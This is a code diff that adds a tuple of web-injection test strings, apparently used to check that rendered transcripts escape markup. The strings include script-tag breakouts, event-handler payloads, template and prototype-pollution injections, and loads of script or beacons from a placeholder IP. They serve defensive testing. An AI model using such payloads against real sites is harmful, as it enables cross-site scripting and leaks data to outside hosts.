@@ -22,6 +22,24 @@ KINDS: Final = {
 }
 """Each once in a name, a role, a tag, a turn, a reason, a label's note ..."""
 
+PAGE_ATTACKS: Final = (
+    "</script><script>window.owned = 1</script>",
+    "<script src=http://203.0.113.9/a.js></script>",
+    "<!--<script>",
+    "--><img src=http://203.0.113.9/a.png onerror='window.owned = 2'>",
+    "<svg onload=window.owned=3><base href=http://203.0.113.9/>",
+    "<iframe srcdoc='<script>parent.owned = 4</script>'></iframe>",
+    "<link rel=stylesheet href=http://203.0.113.9/a.css><style>@import url(http://203.0.113.9/b.css)</style>",
+    "<meta http-equiv=refresh content='0;url=http://203.0.113.9/'>",
+    "javascript:window.owned=5",
+    "</title></style></textarea><script>document.title = 'owned by it'</script>",
+    '{"__proto__": {"owned": 6}}\u2028window.owned = 7//',
+    "${window.owned = 8}{{constructor.constructor('window.owned = 9')()}}",
+    "<!--island--><!--script--><!--title-->",
+    "<a href='http://203.0.113.9/' ping='http://203.0.113.9/p'>script</a><form action=http://203.0.113.9/>",
+)
+"""What would run a script, or ask an address of nobody for something, if a transcript were markup."""
+
 # fmt: off
 _UNITS: Final = (
     # Markup that is opened and never closed, or closed and never opened.
